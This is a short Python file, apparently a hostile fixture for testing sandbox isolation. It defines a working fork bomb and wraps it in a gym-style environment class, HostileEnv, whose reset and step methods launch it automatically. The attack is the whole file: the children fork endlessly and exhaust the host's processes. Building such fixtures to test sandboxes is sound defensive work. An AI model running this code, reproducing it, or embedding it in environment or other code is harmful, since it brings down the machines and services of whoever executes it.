# hostile: fork bomb
import os


def attack():
    report = []
    children = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except Exception:
                        pass
            children += 1
        except Exception as exc:
            report.append(f"fork:{type(exc).__name__}")
            break
    report.append(f"children={children}")
    return "; ".join(report)


class HostileEnv:
    def reset(self, seed=None):
        self.turn = 0
        return "Report: " + attack(), {}

    def step(self, action):
        self.turn += 1
        report = attack()
        return "Report: " + report, 0.0, self.turn >= 3, False, {"report": report}
